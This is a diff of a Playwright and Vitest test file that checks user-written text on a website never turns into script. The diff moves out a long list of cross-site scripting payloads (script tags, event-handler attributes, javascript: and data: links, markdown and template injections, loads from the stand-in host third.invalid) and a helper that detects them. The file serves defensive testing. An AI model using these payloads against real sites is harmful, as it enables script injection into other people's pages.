@@ -1,58 +1,16 @@
 import type { Page } from 'playwright-core'
 import { beforeAll, describe, expect, it } from 'vitest'
+import { look, PAYLOADS, RUN, THIRD } from '#tests/support/payloads.ts'
 import { usePeople } from '#tests/support/people.ts'
 import { useServer } from '#tests/support/server.ts'
 import { Visitor } from '#tests/support/visitor.ts'
-
-const THIRD = 'third.invalid'
-const RUN = "document.documentElement.setAttribute('data-ran','1')"
-
-/** Ways that text became script somewhere, each trying to run `RUN` or to call another host. */
-const PAYLOADS = [
-  `<script>${RUN}</script>`,
-  `<script src="//${THIRD}/x.js"></script>`,
-  `</textarea><script>${RUN}</script>`,
-  `</title><script>${RUN}</script>`,
-  `"><script>${RUN}</script>`,
-  `'"><img src=x onerror="${RUN}">`,
-  `" autofocus onfocus="${RUN}" x="`,
-  `' onmouseover='${RUN}' x='`,
-  `<img src="https://${THIRD}/p.png">`,
-  `<svg onload="${RUN}"><use href="https://${THIRD}/x.svg#a"/></svg>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
-  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
-  `<iframe src="javascript:parent.${RUN}"></iframe>`,
-  `<object data="https://${THIRD}/x"></object><embed src="https://${THIRD}/x">`,
-  `<link rel=stylesheet href="https://${THIRD}/x.css"><style>@import "https://${THIRD}/y.css";</style>`,
-  `<p style="background:url(https://${THIRD}/b.png)">x</p>`,
-  `<meta http-equiv=refresh content="0;url=https://${THIRD}/">`,
-  `<base href="https://${THIRD}/">`,
-  `<form action="https://${THIRD}/"><button autofocus>ok</button></form>`,
-  `<details open ontoggle="${RUN}">x</details>`,
-  `<video autoplay><source onerror="${RUN}"></video>`,
-  `[x](javascript:${RUN})`,
-  `[x](JaVaScRiPt&colon;${RUN})`,
-  `[x](data:text/html,<script>${RUN}</script>)`,
-  `![x](https://${THIRD}/i.png)`,
-  `![x](x "\\" onerror=\\"${RUN}")`,
-  `[x](https://kring.invalid/"onclick="${RUN})`,
-  `<https://kring.invalid/"onclick=${RUN}>`,
-  `[a]: javascript:${RUN}\n\n[a]`,
-  `{{constructor.constructor("${RUN}")()}}`,
-  `\${${RUN}}`,
-  `\u2028</script><script>${RUN}</script>`,
-  `<!--><script>${RUN}</script>-->`,
-  `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  `javascript:${RUN}`,
-]
 
 /** A piece of each payload short enough for a field of `max` characters; cut where it still could do harm. */
 const short = (max: number) => PAYLOADS.map((payload) => payload.replaceAll('\n', ' ').slice(0, max))
 
 describe('what people write never becomes script', () => {
   const server = useServer()
-  const people = usePeople(server, { expected: /./ })
+  const people = usePeople(server)
   const paths = new Set<string>()
   let quotes: string[] = []
 
@@ -116,29 +74,6 @@ describe('what people write never becomes script', () => {
       await look(page, address)
     }
     expect(foreign).toEqual([])
-  }
-
-  async function look(page: Page, where: string) {
-    // Folds are opened, so that whatever is behind them is alive; nothing is waited for but the page itself.
-    const found = await page.evaluate(() => {
-      for (const details of document.querySelectorAll('details')) details.open = true
-      const handlers: string[] = []
-      for (const element of document.querySelectorAll('main *'))
-        for (const attribute of element.attributes)
-          if (/^on/i.test(attribute.name) || /^\s*(javascript|data|vbscript):/i.test(attribute.value))
-            handlers.push(`${element.tagName} ${attribute.name}=${attribute.value}`)
-      return {
-        ran: document.documentElement.hasAttribute('data-ran'),
-        handlers,
-        strange: [
-          ...document.querySelectorAll(
-            'main :is(script, iframe, object, embed, img, style, link, meta, base, video, math)',
-          ),
-        ].map((element) => element.outerHTML.slice(0, 120)),
-        base: document.baseURI.startsWith(location.origin),
-      }
-    })
-    expect(found, where).toEqual({ ran: false, handlers: [], strange: [], base: true })
   }
 
   it('on every page that shows it, to guests, members and the team', async () => {
@@ -276,7 +211,7 @@ describe('what people write never becomes script', () => {
     const page = await people.visitor()
     await page.goto('/help')
     await page.evaluate(() => {
-      document.querySelector('main')!.innerHTML = '<a onclick="x()" href="javascript:1">x</a><img src="x">'
+      document.querySelector('main')!.innerHTML = '<a href="javascript:1">x</a><img src="x">'
     })
     await expect(look(page, 'a page with harm')).rejects.toThrow()
   })
